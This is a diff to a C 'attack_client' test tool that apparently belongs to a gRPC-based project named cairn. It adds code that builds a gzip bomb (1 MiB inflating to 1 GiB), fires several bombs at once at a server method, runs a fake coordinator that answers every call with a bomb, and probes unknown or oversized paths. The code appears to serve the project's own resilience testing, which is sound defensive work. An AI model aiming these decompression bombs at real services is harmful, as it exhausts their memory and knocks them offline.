@@ -18,13 +18,20 @@
  *               in the roster, hold back its share (captured), serve a
  *               forked checkpoint or a 256 MiB one
  *   evidence    print the fork evidence a node's witness state holds
+ *   gzip        send gzip bombs (1 MiB of gzip inflating to 1 GiB) to a
+ *               method, several at once
+ *   gzip-server a fake coordinator answering every call with a gzip bomb
+ *   peak        run a command and print its peak memory
+ *   call        call any path once, such as an unknown method
  *
  * Every call prints one line "Method: OK ..." or "Method: STATUS: detail"
  * on standard output; the script checks the lines.  Errors of the program
  * itself are "attack_client: error: what: detail" and exit 1.
  */
+#include <sys/resource.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/wait.h>
 #include <netinet/in.h>
 #include <netinet/tcp.h>
 #include <arpa/inet.h>
@@ -40,9 +47,16 @@
 #include <time.h>
 #include <unistd.h>
 
+#include <grpc/byte_buffer.h>
+#include <grpc/grpc.h>
+#include <grpc/grpc_security.h>
+#include <grpc/slice.h>
+#include <grpc/support/alloc.h>
+#include <grpc/support/time.h>
 #include <openssl/err.h>
 #include <openssl/ssl.h>
 #include <sodium.h>
+#include <zlib.h>
 
 #include "common/cli.h"
 #include "common/err.h"
@@ -1364,6 +1378,648 @@ cmd_evidence(int argc, char **argv)
 	return 0;
 }
 
+/* ------------------------------------------------------------ gzip bombs */
+
+/*
+ * The only part of the attacker that speaks the gRPC C core itself:
+ * cairn's transport never compresses, and calls only the methods of
+ * proto_service.h, so a compressed message or an unknown path must be
+ * made here.  A bomb is BOMB_BYTES of a protobuf field (a length-delimited
+ * field 1 of zeros) gzip-compressed to about 1 MiB and sent as an already
+ * compressed byte buffer with "grpc-encoding: gzip": gRPC sends it as it
+ * is, and only a peer that inflates it pays the gibibyte.
+ */
+#define BOMB_BYTES	(1024u * 1024 * 1024)
+#define BOMB_BLOCK	(1024u * 1024)
+
+/* Raw deflate of 'len' bytes of 'in' ending in a full flush, appended at
+ * 'out' + *off (cap bytes in all). */
+static int
+deflate_part(z_stream *z, const uint8_t *in, size_t len, int flush,
+    uint8_t *out, size_t cap, size_t *off)
+{
+	z->next_in = (Bytef *)in;
+	z->avail_in = (uInt)len;
+	z->next_out = out + *off;
+	z->avail_out = (uInt)(cap - *off);
+	if (deflate(z, flush) == Z_STREAM_ERROR || z->avail_in != 0 ||
+	    z->avail_out == 0)
+		return cairn_err(CAIRN_ERR_INTERNAL, "deflate");
+	*off = cap - z->avail_out;
+	return CAIRN_OK;
+}
+
+/*
+ * The gzip bomb: a gzip header, a raw deflate stream and the trailer
+ * (CRC-32, size).  A full flush resets the compressor, so every MiB of
+ * zeros after the first compresses to the same bytes: they are deflated
+ * once and repeated, which takes milliseconds instead of seconds.
+ */
+static int
+gzip_bomb(uint8_t **out, size_t *outlen)
+{
+	static const uint8_t gzhead[10] = { 0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0,
+	    3 };
+	static uint8_t zero[BOMB_BLOCK];
+	uint8_t head[6], *buf, *blk = NULL;
+	size_t cap = 4u << 20, off = 0, b0, blen;
+	uLong crc, zcrc;
+	z_stream z;
+	int r;
+
+	/* Field 1, length-delimited, the length a 5-byte varint. */
+	head[0] = 0x0a;
+	for (size_t i = 0, v = BOMB_BYTES - sizeof(head); i < 5; i++, v >>= 7)
+		head[1 + i] = (uint8_t)((v & 0x7f) | (i < 4 ? 0x80 : 0));
+	if ((buf = malloc(cap)) == NULL)
+		return CAIRN_ERR_NOMEM;
+	memset(&z, 0, sizeof(z));
+	if (deflateInit2(&z, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY) !=
+	    Z_OK) {
+		free(buf);
+		return cairn_err(CAIRN_ERR_INTERNAL, "deflateInit2");
+	}
+	memcpy(buf, gzhead, sizeof(gzhead));
+	off = sizeof(gzhead);
+	/* The field's head and the first MiB less its 6 bytes. */
+	if ((r = deflate_part(&z, head, sizeof(head), Z_FULL_FLUSH, buf, cap,
+	    &off)) != CAIRN_OK || (r = deflate_part(&z, zero, BOMB_BLOCK -
+	    sizeof(head), Z_FULL_FLUSH, buf, cap, &off)) != CAIRN_OK)
+		goto out;
+	/* One MiB of zeros; the next must come out the same. */
+	b0 = off;
+	if ((r = deflate_part(&z, zero, BOMB_BLOCK, Z_FULL_FLUSH, buf, cap,
+	    &off)) != CAIRN_OK)
+		goto out;
+	blen = off - b0;
+	if ((blk = malloc(blen)) == NULL) {
+		r = CAIRN_ERR_NOMEM;
+		goto out;
+	}
+	memcpy(blk, buf + b0, blen);
+	if ((r = deflate_part(&z, zero, BOMB_BLOCK, Z_FULL_FLUSH, buf, cap,
+	    &off)) != CAIRN_OK)
+		goto out;
+	if (off - b0 != 2 * blen || memcmp(buf + b0 + blen, blk, blen) != 0) {
+		r = cairn_err(CAIRN_ERR_INTERNAL, "deflate blocks differ");
+		goto out;
+	}
+	for (size_t i = 3; i < BOMB_BYTES / BOMB_BLOCK; i++) {
+		if (off + blen > cap - 64) {
+			r = cairn_err(CAIRN_ERR_INTERNAL, "bomb too large");
+			goto out;
+		}
+		memcpy(buf + off, blk, blen);
+		off += blen;
+	}
+	if ((r = deflate_part(&z, NULL, 0, Z_FINISH, buf, cap, &off)) !=
+	    CAIRN_OK)
+		goto out;
+	crc = crc32(0, head, sizeof(head));
+	crc = crc32(crc, zero, BOMB_BLOCK - sizeof(head));
+	zcrc = crc32(0, zero, BOMB_BLOCK);
+	for (size_t i = 1; i < BOMB_BYTES / BOMB_BLOCK; i++)
+		crc = crc32_combine(crc, zcrc, BOMB_BLOCK);
+	for (int i = 0; i < 4; i++)
+		buf[off++] = (uint8_t)(crc >> (8 * i));
+	for (int i = 0; i < 4; i++)
+		buf[off++] = (uint8_t)((uint32_t)BOMB_BYTES >> (8 * i));
+	*out = buf;
+	*outlen = off;
+	buf = NULL;
+	r = CAIRN_OK;
+out:
+	deflateEnd(&z);
+	free(blk);
+	free(buf);
+	return r;
+}
+
+/* A byte buffer holding the bomb, marked as gzip-compressed. */
+static grpc_byte_buffer *
+bomb_bb(const uint8_t *gz, size_t len)
+{
+	grpc_slice s = grpc_slice_from_copied_buffer((const char *)gz, len);
+	grpc_byte_buffer *bb = grpc_raw_compressed_byte_buffer_create(&s, 1,
+	    GRPC_COMPRESS_GZIP);
+
+	grpc_slice_unref(s);
+	return bb;
+}
+
+/* Channel arguments of a peer that compresses everything with gzip. */
+#define GZIP_ARGS(name) \
+	grpc_arg name##_a[] = { \
+		{ GRPC_ARG_INTEGER, \
+		    GRPC_COMPRESSION_CHANNEL_DEFAULT_ALGORITHM, \
+		    { .integer = GRPC_COMPRESS_GZIP } }, \
+		{ GRPC_ARG_INTEGER, GRPC_ARG_MAX_SEND_MESSAGE_LENGTH, \
+		    { .integer = -1 } }, \
+		{ GRPC_ARG_INTEGER, GRPC_ARG_MAX_RECEIVE_MESSAGE_LENGTH, \
+		    { .integer = -1 } }, \
+	}; \
+	grpc_channel_args name = { sizeof(name##_a) / sizeof(name##_a[0]), \
+	    name##_a }
+
+struct bomb_call {
+	grpc_call		*call;
+	grpc_byte_buffer	*send, *recv;
+	grpc_metadata_array	 imd, tmd;
+	grpc_status_code	 st;
+	grpc_slice		 details;
+};
+
+/*
+ * gzip: send 'calls' gzip bombs at once to --method (a request that
+ * inflates to 1 GiB) and print each call's status.
+ */
+static int
+cmd_gzip(int argc, char **argv)
+{
+	static const struct option lo[] = { IDENT_OPTIONS,
+		{ "method", required_argument, NULL, 'm' },
+		{ "calls", required_argument, NULL, 'n' },
+		{ NULL, 0, NULL, 0 } };
+	const struct proto_method_info *m = NULL;
+	struct ident id = { 0 };
+	struct keys_tls *tls = NULL;
+	struct bomb_call *bc = NULL;
+	grpc_ssl_pem_key_cert_pair pair;
+	grpc_channel_credentials *creds;
+	grpc_channel *ch = NULL;
+	grpc_completion_queue *cq = NULL;
+	uint8_t *gz = NULL;
+	size_t gzlen = 0;
+	unsigned calls = 1;
+	grpc_slice path;
+	gpr_timespec dl;
+	int c, r, rc = 1;
+	GZIP_ARGS(args);
+
+	while ((c = getopt_long(argc, argv, "", lo, NULL)) != -1) {
+		if (ident_opt(&id, c, optarg))
+			continue;
+		if (c == 'm')
+			m = proto_method_by_name(optarg);
+		else if (c == 'n')
+			calls = (unsigned)atoi(optarg);
+		else
+			return 2;
+	}
+	if (m == NULL || id.target == NULL || id.dir == NULL || calls < 1 ||
+	    calls > 16 || m->server_streaming)
+		return fail("gzip", cairn_err(CAIRN_ERR_ARG, "--target, --dir "
+		    "and --method (a unary one) are required; 1 to 16 "
+		    "--calls"));
+	if ((r = gzip_bomb(&gz, &gzlen)) != CAIRN_OK ||
+	    (r = tls_load_dir(id.dir, &tls)) != CAIRN_OK) {
+		free(gz);
+		return fail("gzip", r);
+	}
+	printf("bomb: %zu bytes of gzip inflating to %u bytes\n", gzlen,
+	    BOMB_BYTES);
+	fflush(stdout);
+	if ((bc = calloc(calls, sizeof(*bc))) == NULL) {
+		rc = fail("gzip", CAIRN_ERR_NOMEM);
+		goto out;
+	}
+	grpc_init();
+	pair.private_key = keys_tls_key_pem(tls);
+	pair.cert_chain = keys_tls_cert_pem(tls);
+	creds = grpc_ssl_credentials_create(keys_tls_ca_pem(tls), &pair, NULL,
+	    NULL);
+	ch = grpc_channel_create(id.target, creds, &args);
+	grpc_channel_credentials_release(creds);
+	cq = grpc_completion_queue_create_for_next(NULL);
+	path = grpc_slice_from_static_string(m->path);
+	dl = gpr_time_add(gpr_now(GPR_CLOCK_MONOTONIC), gpr_time_from_millis(
+	    id.timeout_ms ? id.timeout_ms : 30000, GPR_TIMESPAN));
+	for (unsigned i = 0; i < calls; i++) {
+		grpc_op ops[6];
+
+		bc[i].call = grpc_channel_create_call(ch, NULL,
+		    GRPC_PROPAGATE_DEFAULTS, cq, path, NULL, dl, NULL);
+		bc[i].send = bomb_bb(gz, gzlen);
+		bc[i].details = grpc_empty_slice();
+		grpc_metadata_array_init(&bc[i].imd);
+		grpc_metadata_array_init(&bc[i].tmd);
+		memset(ops, 0, sizeof(ops));
+		ops[0].op = GRPC_OP_SEND_INITIAL_METADATA;
+		ops[1].op = GRPC_OP_SEND_MESSAGE;
+		ops[1].data.send_message.send_message = bc[i].send;
+		ops[2].op = GRPC_OP_SEND_CLOSE_FROM_CLIENT;
+		ops[3].op = GRPC_OP_RECV_INITIAL_METADATA;
+		ops[3].data.recv_initial_metadata.recv_initial_metadata =
+		    &bc[i].imd;
+		ops[4].op = GRPC_OP_RECV_MESSAGE;
+		ops[4].data.recv_message.recv_message = &bc[i].recv;
+		ops[5].op = GRPC_OP_RECV_STATUS_ON_CLIENT;
+		ops[5].data.recv_status_on_client.trailing_metadata =
+		    &bc[i].tmd;
+		ops[5].data.recv_status_on_client.status = &bc[i].st;
+		ops[5].data.recv_status_on_client.status_details =
+		    &bc[i].details;
+		if (grpc_call_start_batch(bc[i].call, ops, 6, &bc[i], NULL) !=
+		    GRPC_CALL_OK) {
+			rc = fail("gzip", cairn_err(CAIRN_ERR_INTERNAL,
+			    "start_batch"));
+			calls = i + 1;	/* its call is unref'd below */
+			goto done;
+		}
+	}
+	for (unsigned i = 0; i < calls; i++) {
+		grpc_event ev = grpc_completion_queue_next(cq,
+		    gpr_inf_future(GPR_CLOCK_REALTIME), NULL);
+		struct bomb_call *b = ev.tag;
+		char *d = grpc_slice_to_c_string(b->details);
+		static const char *const names[] = { "OK", "CANCELLED",
+		    "UNKNOWN", "INVALID_ARGUMENT", "DEADLINE_EXCEEDED",
+		    "NOT_FOUND", "ALREADY_EXISTS", "PERMISSION_DENIED",
+		    "RESOURCE_EXHAUSTED", "FAILED_PRECONDITION", "ABORTED",
+		    "OUT_OF_RANGE", "UNIMPLEMENTED", "INTERNAL", "UNAVAILABLE",
+		    "DATA_LOSS", "UNAUTHENTICATED" };
+
+		printf("%s: %s: %.200s%s\n", m->name, (unsigned)b->st < 17 ?
+		    names[b->st] : "UNKNOWN", d, b->recv != NULL ?
+		    " (a reply came)" : "");
+		gpr_free(d);
+	}
+	rc = 0;
+done:
+	for (unsigned i = 0; i < calls; i++) {
+		if (bc[i].call != NULL)
+			grpc_call_unref(bc[i].call);
+		if (bc[i].send != NULL)
+			grpc_byte_buffer_destroy(bc[i].send);
+		if (bc[i].recv != NULL)
+			grpc_byte_buffer_destroy(bc[i].recv);
+		grpc_slice_unref(bc[i].details);
+		grpc_metadata_array_destroy(&bc[i].imd);
+		grpc_metadata_array_destroy(&bc[i].tmd);
+	}
+	grpc_channel_destroy(ch);
+	grpc_completion_queue_shutdown(cq);
+	while (grpc_completion_queue_next(cq, gpr_inf_future(
+	    GPR_CLOCK_REALTIME), NULL).type != GRPC_QUEUE_SHUTDOWN)
+		;
+	grpc_completion_queue_destroy(cq);
+	grpc_shutdown();
+out:
+	free(bc);
+	free(gz);
+	keys_tls_free(tls);
+	return rc;
+}
+
+/*
+ * call: one call with an empty message to any --path (or to "/x" and
+ * --path-bytes more 'A's), the way a client of another service would, and
+ * print "PATH: STATUS: detail" (the path cut to 80 bytes) and the length
+ * of the detail.
+ */
+static int
+cmd_call(int argc, char **argv)
+{
+	static const struct option lo[] = { IDENT_OPTIONS,
+		{ "path", required_argument, NULL, 'p' },
+		{ "path-bytes", required_argument, NULL, 'b' },
+		{ NULL, 0, NULL, 0 } };
+	static const char *const names[] = { "OK", "CANCELLED", "UNKNOWN",
+	    "INVALID_ARGUMENT", "DEADLINE_EXCEEDED", "NOT_FOUND",
+	    "ALREADY_EXISTS", "PERMISSION_DENIED", "RESOURCE_EXHAUSTED",
+	    "FAILED_PRECONDITION", "ABORTED", "OUT_OF_RANGE", "UNIMPLEMENTED",
+	    "INTERNAL", "UNAVAILABLE", "DATA_LOSS", "UNAUTHENTICATED" };
+	struct ident id = { 0 };
+	struct keys_tls *tls = NULL;
+	grpc_ssl_pem_key_cert_pair pair;
+	grpc_channel_credentials *creds;
+	grpc_channel *ch;
+	grpc_completion_queue *cq;
+	grpc_call *call;
+	grpc_byte_buffer *send, *recv = NULL;
+	grpc_metadata_array imd, tmd;
+	grpc_status_code st = GRPC_STATUS_UNKNOWN;
+	grpc_slice details = grpc_empty_slice(), empty = grpc_empty_slice();
+	grpc_op ops[6];
+	char *path = NULL, *d;
+	size_t extra = 0;
+	int c, r, tag;
+
+	while ((c = getopt_long(argc, argv, "", lo, NULL)) != -1) {
+		if (ident_opt(&id, c, optarg))
+			continue;
+		if (c == 'p')
+			path = strdup(optarg);
+		else if (c == 'b')
+			extra = strtoull(optarg, NULL, 10);
+		else
+			return 2;
+	}
+	if (path == NULL && extra > 0 && extra < 65536 &&
+	    (path = malloc(extra + 3)) != NULL) {
+		memcpy(path, "/x", 2);
+		memset(path + 2, 'A', extra);
+		path[extra + 2] = '\0';
+	}
+	if (id.target == NULL || id.dir == NULL || path == NULL) {
+		free(path);
+		return fail("call", cairn_err(CAIRN_ERR_ARG, "--target, --dir "
+		    "and --path (or --path-bytes below 65536) are required"));
+	}
+	if ((r = tls_load_dir(id.dir, &tls)) != CAIRN_OK) {
+		free(path);
+		return fail("call", r);
+	}
+	grpc_init();
+	pair.private_key = keys_tls_key_pem(tls);
+	pair.cert_chain = keys_tls_cert_pem(tls);
+	creds = grpc_ssl_credentials_create(keys_tls_ca_pem(tls), &pair, NULL,
+	    NULL);
+	ch = grpc_channel_create(id.target, creds, NULL);
+	grpc_channel_credentials_release(creds);
+	cq = grpc_completion_queue_create_for_pluck(NULL);
+	{
+		grpc_slice ps = grpc_slice_from_copied_string(path);
+
+		call = grpc_channel_create_call(ch, NULL,
+		    GRPC_PROPAGATE_DEFAULTS, cq, ps, NULL, gpr_time_add(
+		    gpr_now(GPR_CLOCK_MONOTONIC), gpr_time_from_millis(
+		    id.timeout_ms ? id.timeout_ms : 30000, GPR_TIMESPAN)),
+		    NULL);
+		grpc_slice_unref(ps);
+	}
+	send = grpc_raw_byte_buffer_create(&empty, 1);
+	grpc_metadata_array_init(&imd);
+	grpc_metadata_array_init(&tmd);
+	memset(ops, 0, sizeof(ops));
+	ops[0].op = GRPC_OP_SEND_INITIAL_METADATA;
+	ops[1].op = GRPC_OP_SEND_MESSAGE;
+	ops[1].data.send_message.send_message = send;
+	ops[2].op = GRPC_OP_SEND_CLOSE_FROM_CLIENT;
+	ops[3].op = GRPC_OP_RECV_INITIAL_METADATA;
+	ops[3].data.recv_initial_metadata.recv_initial_metadata = &imd;
+	ops[4].op = GRPC_OP_RECV_MESSAGE;
+	ops[4].data.recv_message.recv_message = &recv;
+	ops[5].op = GRPC_OP_RECV_STATUS_ON_CLIENT;
+	ops[5].data.recv_status_on_client.trailing_metadata = &tmd;
+	ops[5].data.recv_status_on_client.status = &st;
+	ops[5].data.recv_status_on_client.status_details = &details;
+	if (grpc_call_start_batch(call, ops, 6, &tag, NULL) == GRPC_CALL_OK)
+		grpc_completion_queue_pluck(cq, &tag,
+		    gpr_inf_future(GPR_CLOCK_REALTIME), NULL);
+	d = grpc_slice_to_c_string(details);
+	printf("%.80s: %s: %s\n", path, (unsigned)st < 17 ? names[st] :
+	    "UNKNOWN", d);
+	printf("detail length: %zu\n", strlen(d));
+	gpr_free(d);
+	grpc_slice_unref(details);
+	grpc_metadata_array_destroy(&imd);
+	grpc_metadata_array_destroy(&tmd);
+	grpc_byte_buffer_destroy(send);
+	if (recv != NULL)
+		grpc_byte_buffer_destroy(recv);
+	grpc_call_unref(call);
+	grpc_channel_destroy(ch);
+	grpc_completion_queue_shutdown(cq);
+	while (grpc_completion_queue_pluck(cq, NULL, gpr_inf_future(
+	    GPR_CLOCK_REALTIME), NULL).type != GRPC_QUEUE_SHUTDOWN)
+		;
+	grpc_completion_queue_destroy(cq);
+	grpc_shutdown();
+	keys_tls_free(tls);
+	free(path);
+	return 0;
+}
+
+static volatile sig_atomic_t bomb_stop;
+
+static void
+on_term(int sig)
+{
+	(void)sig;
+	bomb_stop = 1;
+}
+
+/* One call of the fake coordinator: new (request), then its reply. */
+struct bomb_srv_call {
+	bool			 replying;
+	grpc_call		*call;
+	grpc_call_details	 details;
+	grpc_metadata_array	 md;
+	grpc_byte_buffer	*send;
+	int			 cancelled;
+};
+
+static struct bomb_srv_call *
+bomb_request(grpc_server *srv, grpc_completion_queue *cq)
+{
+	struct bomb_srv_call *b;
+
+	if ((b = calloc(1, sizeof(*b))) == NULL)
+		return NULL;
+	grpc_call_details_init(&b->details);
+	grpc_metadata_array_init(&b->md);
+	if (grpc_server_request_call(srv, &b->call, &b->details, &b->md, cq,
+	    cq, b) != GRPC_CALL_OK) {
+		grpc_call_details_destroy(&b->details);
+		grpc_metadata_array_destroy(&b->md);
+		free(b);
+		return NULL;
+	}
+	return b;
+}
+
+static void
+bomb_srv_free(struct bomb_srv_call *b)
+{
+	if (b->call != NULL)
+		grpc_call_unref(b->call);
+	if (b->send != NULL)
+		grpc_byte_buffer_destroy(b->send);
+	grpc_call_details_destroy(&b->details);
+	grpc_metadata_array_destroy(&b->md);
+	free(b);
+}
+
+/*
+ * gzip-server: a fake coordinator with the coordinator's certificate that
+ * answers every call, whatever its method, with a gzip bomb (a reply that
+ * inflates to 1 GiB) and status OK, until SIGTERM.
+ */
+static int
+cmd_gzip_server(int argc, char **argv)
+{
+	static int shutdown_tag;
+	static const struct option lo[] = {
+		{ "server-ca", required_argument, NULL, 'a' },
+		{ "server-cert", required_argument, NULL, 'c' },
+		{ "server-key", required_argument, NULL, 'k' },
+		{ "port-file", required_argument, NULL, 'f' },
+		{ NULL, 0, NULL, 0 } };
+	const char *sca = NULL, *scert = NULL, *skey = NULL, *port_file = NULL;
+	struct keys_tls *tls = NULL;
+	grpc_ssl_pem_key_cert_pair pair;
+	grpc_server_credentials *creds;
+	grpc_server *srv = NULL;
+	grpc_completion_queue *cq = NULL;
+	uint8_t *gz = NULL;
+	size_t gzlen = 0;
+	unsigned served = 0;
+	char port[32];
+	int c, r, p, rc = 1;
+	GZIP_ARGS(args);
+
+	while ((c = getopt_long(argc, argv, "", lo, NULL)) != -1) {
+		switch (c) {
+		case 'a': sca = optarg; break;
+		case 'c': scert = optarg; break;
+		case 'k': skey = optarg; break;
+		case 'f': port_file = optarg; break;
+		default: return 2;
+		}
+	}
+	if (sca == NULL || scert == NULL || skey == NULL || port_file == NULL)
+		return fail("gzip-server", cairn_err(CAIRN_ERR_ARG,
+		    "--server-ca, --server-cert, --server-key and --port-file "
+		    "are required"));
+	if ((r = gzip_bomb(&gz, &gzlen)) != CAIRN_OK ||
+	    (r = keys_tls_load(sca, scert, skey, &tls)) != CAIRN_OK) {
+		free(gz);
+		return fail("gzip-server", r);
+	}
+	signal(SIGTERM, on_term);
+	signal(SIGINT, on_term);
+	grpc_init();
+	pair.private_key = keys_tls_key_pem(tls);
+	pair.cert_chain = keys_tls_cert_pem(tls);
+	creds = grpc_ssl_server_credentials_create_ex(keys_tls_ca_pem(tls),
+	    &pair, 1,
+	    GRPC_SSL_REQUEST_AND_REQUIRE_CLIENT_CERTIFICATE_AND_VERIFY, NULL);
+	srv = grpc_server_create(&args, NULL);
+	cq = grpc_completion_queue_create_for_next(NULL);
+	grpc_server_register_completion_queue(srv, cq, NULL);
+	p = grpc_server_add_http2_port(srv, "127.0.0.1:0", creds);
+	grpc_server_credentials_release(creds);
+	if (p == 0) {
+		rc = fail("gzip-server", cairn_err(CAIRN_ERR_NET, "cannot "
+		    "listen"));
+		grpc_server_destroy(srv);
+		goto out;
+	}
+	grpc_server_start(srv);
+	for (int i = 0; i < 8; i++)
+		(void)bomb_request(srv, cq);
+	snprintf(port, sizeof(port), "%d\n", p);
+	if ((r = write_file(port_file, (const uint8_t *)port,
+	    strlen(port))) != CAIRN_OK) {
+		rc = fail("gzip-server", r);
+		bomb_stop = 1;
+	} else
+		log_info("gzip bomb server on port %d (%zu bytes of gzip)", p,
+		    gzlen);
+	while (!bomb_stop) {
+		grpc_event ev = grpc_completion_queue_next(cq, gpr_time_add(
+		    gpr_now(GPR_CLOCK_MONOTONIC), gpr_time_from_millis(200,
+		    GPR_TIMESPAN)), NULL);
+		struct bomb_srv_call *b = ev.tag;
+		grpc_op ops[4];
+
+		if (ev.type != GRPC_OP_COMPLETE)
+			continue;
+		if (b->replying || !ev.success) {
+			bomb_srv_free(b);
+			continue;
+		}
+		(void)bomb_request(srv, cq);
+		b->replying = true;
+		b->send = bomb_bb(gz, gzlen);
+		memset(ops, 0, sizeof(ops));
+		ops[0].op = GRPC_OP_SEND_INITIAL_METADATA;
+		ops[1].op = GRPC_OP_SEND_MESSAGE;
+		ops[1].data.send_message.send_message = b->send;
+		ops[2].op = GRPC_OP_SEND_STATUS_FROM_SERVER;
+		ops[2].data.send_status_from_server.status = GRPC_STATUS_OK;
+		ops[3].op = GRPC_OP_RECV_CLOSE_ON_SERVER;
+		ops[3].data.recv_close_on_server.cancelled = &b->cancelled;
+		if (grpc_call_start_batch(b->call, ops, 4, b, NULL) !=
+		    GRPC_CALL_OK) {
+			bomb_srv_free(b);
+			continue;
+		}
+		served++;
+		log_info("gzip bomb sent as the reply to %.*s",
+		    (int)(GRPC_SLICE_LENGTH(b->details.method) > 100 ? 100 :
+		    GRPC_SLICE_LENGTH(b->details.method)),
+		    (const char *)GRPC_SLICE_START_PTR(b->details.method));
+	}
+	rc = 0;
+	log_info("gzip bomb server: %u replies sent", served);
+	grpc_server_shutdown_and_notify(srv, cq, &shutdown_tag);
+	grpc_server_cancel_all_calls(srv);
+	for (;;) {
+		grpc_event ev = grpc_completion_queue_next(cq,
+		    gpr_inf_future(GPR_CLOCK_REALTIME), NULL);
+
+		if (ev.type != GRPC_OP_COMPLETE)
+			break;
+		if (ev.tag == &shutdown_tag)
+			break;
+		bomb_srv_free(ev.tag);
+	}
+	grpc_server_destroy(srv);
+out:
+	if (cq != NULL) {
+		grpc_completion_queue_shutdown(cq);
+		for (;;) {
+			grpc_event ev = grpc_completion_queue_next(cq,
+			    gpr_inf_future(GPR_CLOCK_REALTIME), NULL);
+
+			if (ev.type == GRPC_QUEUE_SHUTDOWN)
+				break;
+			if (ev.type == GRPC_OP_COMPLETE &&
+			    ev.tag != &shutdown_tag)
+				bomb_srv_free(ev.tag);
+		}
+		grpc_completion_queue_destroy(cq);
+	}
+	grpc_shutdown();
+	free(gz);
+	keys_tls_free(tls);
+	return rc;
+}
+
+/* ----------------------------------------------------------------- peak */
+
+/*
+ * peak CMD [ARG...]: run CMD, then print its peak resident memory as
+ * "peak memory: N kB" (wait4's ru_maxrss) and exit with its status.
+ */
+static int
+cmd_peak(int argc, char **argv)
+{
+	struct rusage ru;
+	pid_t pid;
+	int st;
+
+	if (argc < 2)
+		return fail("peak", cairn_err(CAIRN_ERR_ARG, "a command is "
+		    "required"));
+	fflush(stdout);
+	if ((pid = fork()) < 0)
+		return fail("peak", cairn_err(CAIRN_ERR_INTERNAL, "fork: %s",
+		    strerror(errno)));
+	if (pid == 0) {
+		execvp(argv[1], argv + 1);
+		fprintf(stderr, "%s: %s\n", argv[1], strerror(errno));
+		_exit(127);
+	}
+	if (wait4(pid, &st, 0, &ru) != pid)
+		return fail("peak", cairn_err(CAIRN_ERR_INTERNAL, "wait4: %s",
+		    strerror(errno)));
+	printf("peak memory: %ld kB\n", ru.ru_maxrss);
+	return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
+}
+
 /* ----------------------------------------------------------------- main */
 
 static const struct cli_cmd cmds[] = {
@@ -1379,6 +2035,11 @@ static const struct cli_cmd cmds[] = {
 	{ "proxy", cmd_proxy, "a malicious coordinator in front of the real "
 	    "one" },
 	{ "evidence", cmd_evidence, "print a witness state's fork evidence" },
+	{ "gzip", cmd_gzip, "send gzip bombs (1 MiB inflating to 1 GiB)" },
+	{ "gzip-server", cmd_gzip_server, "a fake coordinator replying with "
+	    "gzip bombs" },
+	{ "peak", cmd_peak, "run a command, print its peak memory" },
+	{ "call", cmd_call, "call any path (an unknown method) once" },
 };
 
 #define IDENT_USAGE "--target HOST:PORT --dir MEMBER_DIR [--ca CA] [--no-cert] " \
@@ -1402,6 +2063,11 @@ static const struct {
 	    "--server-key KEY --log-key IDENTITY_KEY --port-file FILE "
 	    "[--listen ADDR] [--mode-file FILE] [--capture DIR]" },
 	{ "evidence", "evidence --witness FILE --origin ORIGIN" },
+	{ "gzip", "gzip " IDENT_USAGE " --method NAME [--calls N]" },
+	{ "gzip-server", "gzip-server --server-ca CA --server-cert CRT "
+	    "--server-key KEY --port-file FILE" },
+	{ "peak", "peak COMMAND [ARG...]" },
+	{ "call", "call " IDENT_USAGE " --path PATH | --path-bytes N" },
 };
 
 int
